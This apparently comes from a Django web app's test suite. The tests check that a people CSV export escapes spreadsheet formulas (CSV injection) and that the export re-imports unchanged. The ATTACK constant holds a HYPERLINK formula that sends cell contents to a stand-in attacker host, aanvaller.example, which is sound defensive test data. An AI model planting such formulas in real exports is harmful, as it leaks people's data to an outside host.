"""The people file: a value that a spreadsheet would run as a formula (OWASP "CSV Injection")
leaves as text and comes back in unchanged."""

import csv
import io

from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from samensterk.network.models import Person

from .test_register import NetworkTestCase

ATTACK = '=HYPERLINK("http://aanvaller.example/?"&E2&F2,"Klik hier")'


class PeopleExportFormulaTestCase(NetworkTestCase):
    def setUp(self):
        Person.objects.filter(pk=self.wethouder.pk).update(role=ATTACK, phone="+31 20 123 4567")
        self.login(self.carla)

    def test_the_csv_gives_a_formula_as_text(self):
        export = self.client.get(reverse("network:people_export", args=["csv"])).content
        (row,) = csv.DictReader(io.StringIO(export.decode("utf-8-sig")), delimiter=";")
        self.assertEqual(row["functie"], "'" + ATTACK)
        self.assertEqual(row["telefoon"], "'+31 20 123 4567")
        self.assertEqual(row["naam"], "Wim Wethouder")

    def test_an_export_imports_back_unchanged(self):
        export = self.client.get(reverse("network:people_export", args=["csv"])).content
        response = self.client.post(
            reverse("network:import"),
            {"file": SimpleUploadedFile("export.csv", export)},
            follow=True,
        )
        self.assertContains(response, "0 personen toegevoegd, 1 bijgewerkt")
        self.wethouder.refresh_from_db()
        self.assertEqual((self.wethouder.role, self.wethouder.phone), (ATTACK, "+31 20 123 4567"))
